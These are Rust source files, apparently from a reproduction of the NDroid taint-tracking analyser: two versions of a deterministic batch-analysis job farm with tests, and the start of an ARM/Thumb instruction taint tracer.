        self.results.iter().filter(|r| matches!(r.outcome, JobOutcome::Deadline(_))).count()
    }

    /// Completed jobs whose report detected at least one leak.
    pub fn leaking(&self) -> usize {
        self.results
            .iter()
            .filter_map(|r| r.outcome.report())
            .filter(|rep| rep.leaked())
            .count()
    }

    /// Renders one line per job plus a summary footer. Schedule-free by
    /// construction, so this string is the byte-identity witness used
    /// by the determinism tests and the CI golden check.
    pub fn render(&self) -> String {
        let mut out = String::new();
        for r in &self.results {
            match &r.outcome {
                JobOutcome::Completed(rep) => {
                    let leaks = rep.leaks();
                    let status = if leaks.is_empty() { "clean" } else { "LEAK" };
                    out.push_str(&format!(
                        "{:<32} {:<9} {:<10} {status:<6} leaks={} sinks={} violations={} insns={}\n",
                        r.label,
                        rep.mode.to_string(),
                        rep.engine.to_string(),
                        leaks.len(),
                        rep.sink_events.len(),
                        rep.violations.len(),
                        rep.native_insns,
                    ));
                }
                JobOutcome::Failed(e) => {
                    out.push_str(&format!("{:<32} FAILED {e}\n", r.label));
                }
                JobOutcome::Crashed(msg) => {
                    out.push_str(&format!("{:<32} CRASHED {msg}\n", r.label));
                }
                JobOutcome::Deadline(msg) => {
                    out.push_str(&format!("{:<32} DEADLINE {msg}\n", r.label));
                }
            }
        }
        out.push_str(&format!(
            "total={} completed={} failed={} crashed={} deadline={} leaking={}\n",
            self.results.len(),
            self.completed(),
            self.failed(),
            self.crashed(),
            self.deadlined(),
            self.leaking(),
        ));
        out
    }

    /// Runs a provenance query across every completed job that carries
    /// a frozen store, merging per-job hits **by submission order**
    /// (the job index is part of every hit, sequence numbers stay
    /// per-run). Because the `BatchReport` itself is schedule-free,
    /// the merged result — and its rendering — is byte-identical at
    /// any worker count; jobs without a store (flat-ring or `Off`
    /// runs, failures) contribute nothing.
    pub fn query(&self, query: &ProvQuery) -> BatchQueryResult {
        let mut hits = Vec::new();
        let mut stats = QueryStats::default();
        for (job, r) in self.results.iter().enumerate() {
            let Some(store) = r.outcome.report().and_then(|rep| rep.provenance_store.as_ref())
            else {
                continue;
            };
            let result = query.run(store);
            stats = stats.merged(result.stats);
            hits.extend(result.hits.into_iter().map(|hit| BatchQueryHit {
                job,
                label: r.label.clone(),
                seq: hit.seq,
                event: hit.event,
            }));
        }
        BatchQueryResult { hits, stats }
    }
}

/// One query hit from a batch-wide query: which job (submission
/// index + label) and where in that run's stream.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BatchQueryHit {
    /// Submission index of the job within the batch.
    pub job: usize,
    /// The job's label as submitted.
    pub label: String,
    /// Sequence number within that job's recorded stream.
    pub seq: u64,
    /// The matching event.
    pub event: ProvEvent,
}

/// The merged hits and aggregated segment accounting of one
/// [`BatchReport::query`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BatchQueryResult {
    /// Hits in (submission order, sequence) order.
    pub hits: Vec<BatchQueryHit>,
    /// Segment skip/decode accounting summed across jobs.
    pub stats: QueryStats,
}

impl BatchQueryResult {
    /// Deterministic rendering — one `<label> seq N: <canonical>` line
    /// per hit plus the aggregated stats footer; the byte-identity
    /// witness for the cross-run query gates.
    pub fn render(&self) -> String {
        let mut out = String::new();
        for hit in &self.hits {
            out.push_str(&format!(
                "{} seq {}: {}\n",
                hit.label,
                hit.seq,
                hit.event.canonical()
            ));
        }
        out.push_str(&format!(
            "-- segments {} decoded {} skipped {}\n",
            self.stats.segments, self.stats.decoded, self.stats.skipped
        ));
        out
    }
}

fn panic_message(payload: Box<dyn std::any::Any + Send>) -> String {
    if let Some(s) = payload.downcast_ref::<&'static str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

/// Whether a job's error string is a budget exhaustion — the stable
/// substrings of [`ndroid_emu::EmuError::Timeout`] (guest instruction
/// budget, the [`SystemConfig::budget`] knob) and
/// [`ndroid_dvm::DvmError::OutOfFuel`] (interpreter fuel). Both are
/// deterministic functions of the job, so batch and service modes
/// classify them identically.
fn is_budget_exhaustion(msg: &str) -> bool {
    msg.contains("exceeded instruction budget") || msg.contains("fuel exhausted")
}

/// Runs one job closure under `catch_unwind` and classifies the result.
/// Shared verbatim by batch and service workers so a given job yields
/// the same [`JobOutcome`] in either mode.
pub(crate) fn execute_outcome(run: JobFn) -> JobOutcome {
    match catch_unwind(AssertUnwindSafe(run)) {
        Ok(Ok(report)) => JobOutcome::Completed(report),
        Ok(Err(e)) if is_budget_exhaustion(&e) => JobOutcome::Deadline(e),
        Ok(Err(e)) => JobOutcome::Failed(e),
        Err(payload) => JobOutcome::Crashed(panic_message(payload)),
    }
}

/// A job handed to a worker: its submission sequence number, metadata,
/// and either the closure to run or a pre-expired verdict.
pub(crate) struct QueuedJob {
    /// Submission order; the merge key.
    pub seq: u64,
    /// The job's label.
    pub label: String,
    /// The job's lane (informational for the completion sink).
    pub lane: Lane,
    /// `Some(msg)` when the queue already decided the job's fate
    /// (service-side wall-clock deadline expired while queued): the
    /// worker records [`JobOutcome::Deadline`] without running it.
    pub expired: Option<String>,
    /// Time the job spent queued before dequeue (always zero in offline
    /// mode, where the merge must stay schedule-free).
    pub waited: Duration,
    /// The work closure.
    pub run: JobFn,
}

/// A finished job on its way to the merge.
pub(crate) struct CompletedJob {
    /// Submission order; the merge key.
    pub seq: u64,
    /// The job's label.
    pub label: String,
    /// The job's lane.
    pub lane: Lane,
    /// Time the job spent queued (copied from [`QueuedJob::waited`]).
    pub waited: Duration,
    /// What happened.
    pub outcome: JobOutcome,
}

/// The queue workers pull from — the seam between the offline farm and
/// the resident service. `run_batch` pre-loads a [`ShardedQueue`] and
/// lets workers drain it; the service's lane queue blocks in
/// [`JobQueue::next_job`] until work arrives or the service closes.
pub(crate) trait JobQueue: Send + Sync {
    /// The next job for `worker`. Blocks while the queue is open but
    /// empty; `None` means closed-and-drained — the worker exits.
    fn next_job(&self, worker: usize) -> Option<QueuedJob>;
    /// Delivers a finished job to the merge/stream.
    fn complete(&self, done: CompletedJob);
}

/// The worker loop shared by batch and service modes: pull, run under
/// panic isolation, classify, deliver. All mode-specific behavior
/// (stealing, lanes, deadlines, backpressure) lives behind the
/// [`JobQueue`] trait.
pub(crate) fn worker_loop(me: usize, queue: &dyn JobQueue) {
    while let Some(job) = queue.next_job(me) {
        let outcome = match job.expired {
            Some(msg) => JobOutcome::Deadline(msg),
            None => execute_outcome(job.run),
        };
        queue.complete(CompletedJob {
            seq: job.seq,
            label: job.label,
            lane: job.lane,
            waited: job.waited,
            outcome,
        });
    }
}

/// One shard of the sharded job queue: jobs tagged with their
/// submission index so the merge can restore order.
type Shard = Mutex<VecDeque<(u64, AnalysisJob)>>;

/// The offline farm's queue: every job pre-loaded, dealt round-robin
/// across per-worker shards; a worker drains its own shard then steals
/// from neighbors. Results land in a slot table keyed by submission
/// index — no channel, no ordering sensitivity.
pub(crate) struct ShardedQueue {
    shards: Vec<Shard>,
    results: Mutex<Vec<Option<JobResult>>>,
}

impl ShardedQueue {
    pub(crate) fn new(jobs: Vec<AnalysisJob>, workers: usize) -> ShardedQueue {
        let total = jobs.len();
        let shards: Vec<Shard> = (0..workers).map(|_| Mutex::new(VecDeque::new())).collect();
        for (idx, job) in jobs.into_iter().enumerate() {
            shards[idx % workers].lock().unwrap().push_back((idx as u64, job));
        }
        ShardedQueue {
            shards,
            results: Mutex::new((0..total).map(|_| None).collect()),
        }
    }

    /// Consumes the queue into the submission-ordered report. Panics if
    /// any slot is empty (a worker-loop bug, not a job failure).
    fn into_report(self) -> BatchReport {
        BatchReport {
            results: self
                .results
                .into_inner()
                .unwrap()
                .into_iter()
                .enumerate()
                .map(|(idx, slot)| {
                    slot.unwrap_or_else(|| panic!("job {idx} produced no result"))
                })
                .collect(),
        }
    }
}

impl JobQueue for ShardedQueue {
    fn next_job(&self, worker: usize) -> Option<QueuedJob> {
        let workers = self.shards.len();
        // Own shard first, then steal from neighbors. Every job is
        // already queued, so an empty sweep means the list is drained.
        for off in 0..workers {
            let shard = &self.shards[(worker + off) % workers];
            if let Some((seq, job)) = shard.lock().unwrap().pop_front() {
                return Some(QueuedJob {
                    seq,
                    label: job.label,
                    lane: job.lane,
                    // Offline mode ignores wall-clock deadlines: the
                    // merge must be schedule-free.
                    expired: None,
                    waited: Duration::ZERO,
                    run: job.run,
                });
            }
        }
        None
    }

    fn complete(&self, done: CompletedJob) {
        self.results.lock().unwrap()[done.seq as usize] =
            Some(JobResult { label: done.label, outcome: done.outcome });
    }
}

/// Runs every job and merges the outcomes into a [`BatchReport`].
///
/// Jobs are dealt round-robin onto per-worker queue shards; each worker
/// drains its own shard first, then steals from the others (scanning
/// from its neighbor onward) until every shard is empty. Each job runs
/// under `catch_unwind`, so a panicking job becomes
/// [`JobOutcome::Crashed`] and the worker lives on. Results are merged
/// by submission index — the report is independent of worker count and
/// scheduling.
pub fn run_batch(jobs: Vec<AnalysisJob>, config: BatchConfig) -> BatchReport {
    let total = jobs.len();
    let workers = config.workers.max(1).min(total.max(1));

    let queue = Arc::new(ShardedQueue::new(jobs, workers));
    let mut handles = Vec::with_capacity(workers);
    for me in 0..workers {
        let queue = Arc::clone(&queue);
        handles.push(thread::spawn(move || worker_loop(me, &*queue)));
    }
    for h in handles {
        // Workers catch job panics, so join only fails if the worker
        // loop itself has a bug — surface that loudly.
        h.join().expect("batch worker panicked outside a job");
    }

    let queue = Arc::into_inner(queue).expect("all workers joined");
    let report = queue.into_report();
    debug_assert_eq!(report.results.len(), total);
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::EngineKind;
    use crate::system::Mode;

    fn fake_report(insns: u64) -> RunReport {
        RunReport {
            mode: Mode::NDroid,
            engine: EngineKind::Optimized,
            sink_events: Vec::new(),
            network_log: Vec::new(),
            violations: Vec::new(),
            stats: None,
            native_insns: insns,
            bytecodes: 0,
            provenance: None,
            provenance_store: None,
        }
    }

    fn job_list() -> Vec<AnalysisJob> {
        (0..13u64)
            .map(|i| {
                AnalysisJob::new(format!("job_{i:02}"), move || match i % 5 {
                    3 => Err(format!("budget exhausted on {i}")),
                    4 => panic!("deterministic boom"),
                    _ => Ok(fake_report(i * 100)),
                })
            })
            .collect()
    }

    #[test]
    fn merge_is_submission_ordered_and_schedule_free() {
        let one = run_batch(job_list(), BatchConfig::new(1));
        let four = run_batch(job_list(), BatchConfig::new(4));
        let many = run_batch(job_list(), BatchConfig::new(32));
        assert_eq!(one, four);
        assert_eq!(one, many);
        assert_eq!(one.render(), four.render());
        assert_eq!(one.results.len(), 13);
        assert_eq!(one.results[0].label, "job_00");
        assert_eq!(one.results[12].label, "job_12");
    }

    #[test]
    fn panics_become_crashed_not_lost_workers() {
        let report = run_batch(job_list(), BatchConfig::new(2));
        assert_eq!(report.crashed(), 2); // jobs 4 and 9
        assert_eq!(report.failed(), 2); // jobs 3 and 8
        assert_eq!(report.completed(), 13 - 2 - 2);
        assert!(matches!(
            report.results[4].outcome,
            JobOutcome::Crashed(ref m) if m == "deterministic boom"
        ));
        assert!(matches!(report.results[3].outcome, JobOutcome::Failed(_)));
    }

    #[test]
    fn empty_batch_and_zero_workers() {
        let report = run_batch(Vec::new(), BatchConfig::new(0));
        assert!(report.results.is_empty());
        assert_eq!(
            report.render(),
            "total=0 completed=0 failed=0 crashed=0 deadline=0 leaking=0\n"
        );
    }

    /// Regression: a zero-worker config — whether built through the
    /// clamping constructor or as a bare struct literal — must still
    /// run a non-empty job list to completion rather than spawning
    /// zero workers and hanging the merge.
    #[test]
    fn zero_workers_with_jobs_completes() {
        assert_eq!(BatchConfig::new(0).workers, 1);
        let clamped = run_batch(job_list(), BatchConfig::new(0));
        assert_eq!(clamped.results.len(), 13);
        // The literal bypasses `new`'s clamp; `run_batch` re-clamps.
        let literal = run_batch(job_list(), BatchConfig { workers: 0 });
        assert_eq!(literal, clamped);
        assert_eq!(literal.render(), clamped.render());
    }

    /// A budget-exhaustion error (the stable `EmuError::Timeout` /
    /// `DvmError::OutOfFuel` strings) classifies as `Deadline`, not
    /// `Failed` — identically at any worker count, so the service's
    /// drain contract holds for budget-capped jobs too.
    #[test]
    fn budget_exhaustion_classifies_as_deadline() {
        let jobs = || {
            vec![
                AnalysisJob::new("ok", || Ok(fake_report(1))),
                AnalysisJob::new("budget", || {
                    Err("native execution failed: guest exceeded instruction budget of 0"
                        .to_string())
                }),
                AnalysisJob::new("fuel", || Err("interpreter fuel exhausted".to_string())),
                AnalysisJob::new("other", || Err("plain failure".to_string())),
            ]
        };
        let one = run_batch(jobs(), BatchConfig::new(1));
        let four = run_batch(jobs(), BatchConfig::new(4));
        assert_eq!(one, four);
        assert_eq!(one.deadlined(), 2);
        assert_eq!(one.failed(), 1);
        assert!(matches!(one.results[1].outcome, JobOutcome::Deadline(_)));
        assert!(matches!(one.results[2].outcome, JobOutcome::Deadline(_)));
        assert!(matches!(one.results[3].outcome, JobOutcome::Failed(_)));
        assert!(one.render().contains("DEADLINE"));
    }

    #[test]
    fn builder_carries_metadata() {
        let job = AnalysisJob::builder("x/y")
            .lane(Lane::Interactive)
            .deadline(Duration::from_millis(250))
            .config(SystemConfig::ndroid().quiet(true))
            .run(|| Ok(fake_report(0)));
        assert_eq!(job.label, "x/y");
        assert_eq!(job.lane, Lane::Interactive);
        assert_eq!(job.deadline, Some(Duration::from_millis(250)));
        assert!(job.config.as_ref().is_some_and(|c| c.quiet));
        // `new` keeps the legacy defaults.
        let plain = AnalysisJob::new("p", || Ok(fake_report(0)));
        assert_eq!(plain.lane, Lane::Bulk);
        assert_eq!(plain.deadline, None);
        assert!(plain.config.is_none());
    }

    #[test]
    fn job_sources_concatenate_in_order() {
        struct Fake(&'static str, usize);
        impl JobSource for Fake {
            fn name(&self) -> &'static str {
                self.0
            }
            fn jobs(&self, _config: &SystemConfig) -> Vec<AnalysisJob> {
                let name = self.0;
                (0..self.1)
                    .map(|i| {
                        AnalysisJob::new(format!("{name}/{i}"), move || {
                            Ok(fake_report(i as u64))
                        })
                    })
                    .collect()
            }
        }
        let cfg = SystemConfig::ndroid();
        let boxed: Box<dyn JobSource> = Box::new(Fake("b", 1));
        assert_eq!(boxed.name(), "b");
        let jobs = jobs_from(&[&Fake("a", 2), &boxed], &cfg);
        let labels: Vec<&str> = jobs.iter().map(|j| j.label.as_str()).collect();
        assert_eq!(labels, ["a/0", "a/1", "b/0"]);
    }
}
