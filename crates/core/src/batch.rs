//! The batch-analysis farm: shards a work list of analysis jobs across
//! `std::thread` workers and merges their results deterministically.
//!
//! The paper evaluates NDroid one app at a time inside a single QEMU
//! instance; the farm is what scales the reproduction to corpora. The
//! design constraints, in order:
//!
//! 1. **Determinism.** A [`BatchReport`] is byte-identical for the same
//!    job list regardless of worker count or scheduling order. Results
//!    are merged in submission order, and the report carries no worker
//!    count, timing, or other schedule-dependent data.
//! 2. **Panic isolation.** A job that panics is recorded as
//!    [`JobOutcome::Crashed`] and its worker keeps draining the queue —
//!    one bad sample never loses a shard of the corpus.
//! 3. **No shared mutable analysis state.** Each job constructs its own
//!    [`crate::NDroidSystem`] inside its closure; workers share only
//!    the job queue.
//!
//! Jobs are `FnOnce` closures returning `Result<RunReport, String>`, so
//! the farm never needs the app types themselves to be `Send` — the
//! closure builds everything on the worker thread. The thin front-end
//! in `ndroid-apps` (`farm` module) packages gallery apps, corpus
//! samples, and monkey-driver runs into jobs.
//!
//! The queue is sharded: one `Mutex<VecDeque>` per worker, jobs dealt
//! round-robin at submission, and an idle worker steals from the other
//! shards before parking. With deterministic merge this is purely a
//! contention optimization — stealing changes who runs a job, never
//! where its result lands.

use std::collections::VecDeque;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::sync::mpsc;
use std::sync::{Arc, Mutex};
use std::thread;

use crate::report::RunReport;

/// One unit of work for the farm: a label (stable across runs, used as
/// the merge key's human-readable face) plus the closure that builds a
/// system, runs it, and snapshots its [`RunReport`].
pub struct AnalysisJob {
    /// Stable human-readable identifier, e.g. `"gallery/qq_phonebook"`
    /// or `"corpus/sample_017"`.
    pub label: String,
    run: Box<dyn FnOnce() -> Result<RunReport, String> + Send + 'static>,
}

impl AnalysisJob {
    /// Wraps a closure as a job.
    pub fn new(
        label: impl Into<String>,
        run: impl FnOnce() -> Result<RunReport, String> + Send + 'static,
    ) -> AnalysisJob {
        AnalysisJob { label: label.into(), run: Box::new(run) }
    }
}

impl std::fmt::Debug for AnalysisJob {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AnalysisJob").field("label", &self.label).finish_non_exhaustive()
    }
}

/// What happened to one job.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum JobOutcome {
    /// The job ran to completion.
    Completed(RunReport),
    /// The job returned an error (e.g. a budget exhaustion the closure
    /// chose to surface).
    Failed(String),
    /// The job panicked; the payload's message, if it was a string.
    /// The worker survived and kept draining the queue.
    Crashed(String),
}

impl JobOutcome {
    /// The report, if the job completed.
    pub fn report(&self) -> Option<&RunReport> {
        match self {
            JobOutcome::Completed(r) => Some(r),
            _ => None,
        }
    }
}

/// One merged row of a [`BatchReport`]: the job's label and outcome,
/// in submission order.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JobResult {
    /// The job's label as submitted.
    pub label: String,
    /// What happened.
    pub outcome: JobOutcome,
}

/// Farm tuning. Only `workers` exists today; a struct so that future
/// knobs (queue depth, steal policy) don't churn the signature.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BatchConfig {
    /// Number of worker threads. `1` runs the whole list on one
    /// spawned worker; `0` is clamped to `1`.
    pub workers: usize,
}

impl BatchConfig {
    /// A farm with `workers` threads.
    pub fn new(workers: usize) -> BatchConfig {
        BatchConfig { workers: workers.max(1) }
    }
}

impl Default for BatchConfig {
    fn default() -> BatchConfig {
        BatchConfig::new(1)
    }
}

/// The deterministic merge of a batch run: one [`JobResult`] per
/// submitted job, in submission order. Deliberately carries no worker
/// count, schedule, or timing — `BatchReport`s from 1-worker and
/// N-worker runs of the same job list compare equal (and render to
/// byte-identical text).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct BatchReport {
    /// Per-job results in submission order.
    pub results: Vec<JobResult>,
}

impl BatchReport {
    /// Jobs that completed.
    pub fn completed(&self) -> usize {
        self.results.iter().filter(|r| matches!(r.outcome, JobOutcome::Completed(_))).count()
    }

    /// Jobs that returned an error.
    pub fn failed(&self) -> usize {
        self.results.iter().filter(|r| matches!(r.outcome, JobOutcome::Failed(_))).count()
    }

    /// Jobs that panicked.
    pub fn crashed(&self) -> usize {
        self.results.iter().filter(|r| matches!(r.outcome, JobOutcome::Crashed(_))).count()
    }

    /// Completed jobs whose report detected at least one leak.
    pub fn leaking(&self) -> usize {
        self.results
            .iter()
            .filter_map(|r| r.outcome.report())
            .filter(|rep| rep.leaked())
            .count()
    }

    /// Renders one line per job plus a summary footer. Schedule-free by
    /// construction, so this string is the byte-identity witness used
    /// by the determinism tests and the CI golden check.
    pub fn render(&self) -> String {
        let mut out = String::new();
        for r in &self.results {
            match &r.outcome {
                JobOutcome::Completed(rep) => {
                    let leaks = rep.leaks();
                    let status = if leaks.is_empty() { "clean" } else { "LEAK" };
                    out.push_str(&format!(
                        "{:<32} {:<9} {:<10} {status:<6} leaks={} sinks={} violations={} insns={}\n",
                        r.label,
                        rep.mode.to_string(),
                        rep.engine.to_string(),
                        leaks.len(),
                        rep.sink_events.len(),
                        rep.violations.len(),
                        rep.native_insns,
                    ));
                }
                JobOutcome::Failed(e) => {
                    out.push_str(&format!("{:<32} FAILED {e}\n", r.label));
                }
                JobOutcome::Crashed(msg) => {
                    out.push_str(&format!("{:<32} CRASHED {msg}\n", r.label));
                }
            }
        }
        out.push_str(&format!(
            "total={} completed={} failed={} crashed={} leaking={}\n",
            self.results.len(),
            self.completed(),
            self.failed(),
            self.crashed(),
            self.leaking(),
        ));
        out
    }
}

/// One shard of the sharded job queue: jobs tagged with their
/// submission index so the merge can restore order.
type Shard = Mutex<VecDeque<(usize, AnalysisJob)>>;

fn panic_message(payload: Box<dyn std::any::Any + Send>) -> String {
    if let Some(s) = payload.downcast_ref::<&'static str>() {
        (*s).to_string()
    } else if let Some(s) = payload.downcast_ref::<String>() {
        s.clone()
    } else {
        "non-string panic payload".to_string()
    }
}

/// Runs every job and merges the outcomes into a [`BatchReport`].
///
/// Jobs are dealt round-robin onto per-worker queue shards; each worker
/// drains its own shard first, then steals from the others (scanning
/// from its neighbor onward) until every shard is empty. Each job runs
/// under `catch_unwind`, so a panicking job becomes
/// [`JobOutcome::Crashed`] and the worker lives on. Results flow back
/// over a channel tagged with submission index and are merged in that
/// order — the report is independent of worker count and scheduling.
pub fn run_batch(jobs: Vec<AnalysisJob>, config: BatchConfig) -> BatchReport {
    let total = jobs.len();
    let workers = config.workers.max(1).min(total.max(1));

    let shards: Arc<Vec<Shard>> = Arc::new(
        (0..workers).map(|_| Mutex::new(VecDeque::new())).collect(),
    );
    for (idx, job) in jobs.into_iter().enumerate() {
        shards[idx % workers].lock().unwrap().push_back((idx, job));
    }

    let (tx, rx) = mpsc::channel::<(usize, String, JobOutcome)>();
    let mut handles = Vec::with_capacity(workers);
    for me in 0..workers {
        let shards = Arc::clone(&shards);
        let tx = tx.clone();
        handles.push(thread::spawn(move || {
            loop {
                // Own shard first, then steal from neighbors.
                let mut next = None;
                for off in 0..workers {
                    let shard = &shards[(me + off) % workers];
                    if let Some(item) = shard.lock().unwrap().pop_front() {
                        next = Some(item);
                        break;
                    }
                }
                let Some((idx, job)) = next else { break };
                let label = job.label;
                let run = job.run;
                let outcome = match catch_unwind(AssertUnwindSafe(run)) {
                    Ok(Ok(report)) => JobOutcome::Completed(report),
                    Ok(Err(e)) => JobOutcome::Failed(e),
                    Err(payload) => JobOutcome::Crashed(panic_message(payload)),
                };
                if tx.send((idx, label, outcome)).is_err() {
                    break;
                }
            }
        }));
    }
    drop(tx);

    let mut slots: Vec<Option<JobResult>> = (0..total).map(|_| None).collect();
    for (idx, label, outcome) in rx {
        slots[idx] = Some(JobResult { label, outcome });
    }
    for h in handles {
        // Workers catch job panics, so join only fails if the worker
        // loop itself has a bug — surface that loudly.
        h.join().expect("batch worker panicked outside a job");
    }

    BatchReport {
        results: slots
            .into_iter()
            .enumerate()
            .map(|(idx, slot)| {
                slot.unwrap_or_else(|| panic!("job {idx} produced no result"))
            })
            .collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::EngineKind;
    use crate::system::Mode;

    fn fake_report(insns: u64) -> RunReport {
        RunReport {
            mode: Mode::NDroid,
            engine: EngineKind::Optimized,
            sink_events: Vec::new(),
            network_log: Vec::new(),
            violations: Vec::new(),
            stats: None,
            native_insns: insns,
            bytecodes: 0,
            provenance: None,
        }
    }

    fn job_list() -> Vec<AnalysisJob> {
        (0..13u64)
            .map(|i| {
                AnalysisJob::new(format!("job_{i:02}"), move || match i % 5 {
                    3 => Err(format!("budget exhausted on {i}")),
                    4 => panic!("deterministic boom"),
                    _ => Ok(fake_report(i * 100)),
                })
            })
            .collect()
    }

    #[test]
    fn merge_is_submission_ordered_and_schedule_free() {
        let one = run_batch(job_list(), BatchConfig::new(1));
        let four = run_batch(job_list(), BatchConfig::new(4));
        let many = run_batch(job_list(), BatchConfig::new(32));
        assert_eq!(one, four);
        assert_eq!(one, many);
        assert_eq!(one.render(), four.render());
        assert_eq!(one.results.len(), 13);
        assert_eq!(one.results[0].label, "job_00");
        assert_eq!(one.results[12].label, "job_12");
    }

    #[test]
    fn panics_become_crashed_not_lost_workers() {
        let report = run_batch(job_list(), BatchConfig::new(2));
        assert_eq!(report.crashed(), 2); // jobs 4 and 9
        assert_eq!(report.failed(), 2); // jobs 3 and 8
        assert_eq!(report.completed(), 13 - 2 - 2);
        assert!(matches!(
            report.results[4].outcome,
            JobOutcome::Crashed(ref m) if m == "deterministic boom"
        ));
        assert!(matches!(report.results[3].outcome, JobOutcome::Failed(_)));
    }

    #[test]
    fn empty_batch_and_zero_workers() {
        let report = run_batch(Vec::new(), BatchConfig::new(0));
        assert!(report.results.is_empty());
        assert_eq!(report.render(), "total=0 completed=0 failed=0 crashed=0 leaking=0\n");
    }
}
