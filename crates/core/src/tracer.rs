//! The instruction tracer: Table V's taint-propagation logic for
//! ARM/Thumb instructions.
//!
//! "By instrumenting third-party native libraries, the instruction
//! tracer monitors each ARM/Thumb instruction to determine how the
//! taint propagates. … Currently, NDROID only supports arithmetic and
//! copy operations" (§V-C). The rules implemented here are exactly the
//! rows of Table V:
//!
//! | Format                      | Propagation                            |
//! |-----------------------------|----------------------------------------|
//! | `binary-op Rd, Rn, Rm`      | `t(Rd) = t(Rn) OR t(Rm)`               |
//! | `binary-op Rd, Rm, #imm`    | `t(Rd) = t(Rm)`                        |
//! | `unary Rd, Rm`              | `t(Rd) = t(Rm)`                        |
//! | `mov Rd, #imm`              | `t(Rd) = TAINT_CLEAR`                  |
//! | `mov Rd, Rm`                | `t(Rd) = t(Rm)`                        |
//! | `LDR* Rd, Rn, #imm`         | `t(Rd) = t(M[addr]) OR t(Rn)`          |
//! | `LDM/POP`                   | per-register `t(Ri) = t(M[..]) OR t(Rn)` |
//! | `STR* Rd, Rn, #imm`         | `t(M[addr]) = t(Rd)`                   |
//! | `STM/PUSH`                  | per-register `t(M[..]) = t(Ri)`        |
//!
//! Note the pointer rule: "if the tainted input is the address of an
//! untainted value, the taint will be propagated to it" — loads union
//! the base register's taint into the result.

use ndroid_arm::block::{TaintOp, NO_REG};
use ndroid_arm::exec::Effect;
use ndroid_arm::insn::{Instr, MemOffset, Op2, VfpOp, VfpPrec};
use ndroid_arm::mem::{Memory, PAGE_SHIFT};
use ndroid_arm::reg::Reg;
use ndroid_dvm::Taint;
use ndroid_emu::shadow::ShadowState;
use std::collections::HashMap;

/// Propagates taint for one executed instruction.
///
/// Must be called *after* the executor ran (so [`Effect::addr`] holds
/// the effective address) but relies only on shadow state for taints,
/// which the executor never touches.
///
/// Returns the union of the taints the instruction actually *wrote*
/// (to registers, VFP registers, or shadow memory) — the provenance
/// layer aggregates these over a basic-block run. The reference
/// engine's `ref_propagate` mirrors this return value bit for bit, so
/// the differential oracle covers it too.
pub fn propagate(shadow: &mut ShadowState, effect: &Effect) -> Taint {
    if !effect.executed {
        return Taint::CLEAR;
    }
    shadow.ops += 1;
    let mut written = Taint::CLEAR;
    match effect.instr {
        Instr::Dp { op, rd, rn, op2, .. } => {
            if op.is_compare() {
                return Taint::CLEAR; // flags only; no control-flow taint (§VII)
            }
            let mut t = Taint::CLEAR;
            if op.uses_rn() {
                t |= shadow.regs[rn.index()];
            }
            match op2 {
                Op2::Imm { .. } => {}
                Op2::RegShiftImm { rm, .. } => t |= shadow.regs[rm.index()],
                Op2::RegShiftReg { rm, rs, .. } => {
                    t |= shadow.regs[rm.index()];
                    t |= shadow.regs[rs.index()];
                }
            }
            if rd != Reg::PC {
                shadow.regs[rd.index()] = t;
                written |= t;
            }
        }
        Instr::Mul { rd, rm, rs, acc, .. } => {
            let mut t = shadow.regs[rm.index()] | shadow.regs[rs.index()];
            if let Some(ra) = acc {
                t |= shadow.regs[ra.index()];
            }
            if rd != Reg::PC {
                shadow.regs[rd.index()] = t;
                written |= t;
            }
        }
        Instr::Mem {
            load,
            size,
            rd,
            rn,
            offset,
            pre,
            writeback,
            ..
        } => {
            let Some(addr) = effect.addr else {
                return Taint::CLEAR;
            };
            let width = size.bytes();
            // Base-register writeback (`LDR Rd, [Rn, Rm]!` and every
            // post-indexed form) leaves Rn = Rn ± offset — pointer
            // arithmetic, so the offset register's taint joins t(Rn)
            // (an immediate offset cannot change t(Rn)). Applied before
            // the destination write so a load with rd == rn keeps the
            // loaded value's taint, matching the executor's own write
            // order (Rn writeback first, Rd last).
            if writeback || !pre {
                if let MemOffset::Reg { rm, .. } = offset {
                    if rn != Reg::PC {
                        shadow.regs[rn.index()] |= shadow.regs[rm.index()];
                        written |= shadow.regs[rn.index()];
                    }
                }
            }
            if load {
                // t(Rd) = t(M[addr]) OR t(Rn) — the address-taint rule.
                let mut t = shadow.mem.range_taint(addr, width) | shadow.regs[rn.index()];
                if let MemOffset::Reg { rm, .. } = offset {
                    t |= shadow.regs[rm.index()];
                }
                if rd != Reg::PC {
                    shadow.regs[rd.index()] = t;
                    written |= t;
                }
            } else {
                // t(M[addr]) = t(Rd) — a SET, not a union.
                shadow.mem.set_range(addr, width, shadow.regs[rd.index()]);
                written |= shadow.regs[rd.index()];
            }
        }
        Instr::MemMulti {
            load, rn, regs, ..
        } => {
            // Writeback here is `Rn ± 4·n` — a constant offset — so
            // t(Rn) is unchanged, unlike the register-offset case above.
            let Some(start) = effect.addr else {
                return Taint::CLEAR;
            };
            let base_taint = shadow.regs[rn.index()];
            for (i, r) in regs.iter().enumerate() {
                let slot = start.wrapping_add(4 * i as u32);
                if load {
                    let t = shadow.mem.range_taint(slot, 4) | base_taint;
                    if r != Reg::PC {
                        shadow.regs[r.index()] = t;
                        written |= t;
                    }
                } else {
                    shadow.mem.set_range(slot, 4, shadow.regs[r.index()]);
                    written |= shadow.regs[r.index()];
                }
            }
        }
        Instr::Branch { .. } | Instr::BranchExchange { .. } | Instr::Svc { .. } => {}
        Instr::Vfp {
            op,
            prec,
            fd,
            fn_,
            fm,
            ..
        } => {
            if op == VfpOp::Cmp {
                return Taint::CLEAR;
            }
            let t = match prec {
                VfpPrec::F32 => {
                    let mut t = shadow.vfp[(fm & 31) as usize];
                    if op != VfpOp::Mov {
                        t |= shadow.vfp[(fn_ & 31) as usize];
                    }
                    t
                }
                VfpPrec::F64 => {
                    let mut t = shadow.vfp[((fm & 15) * 2) as usize]
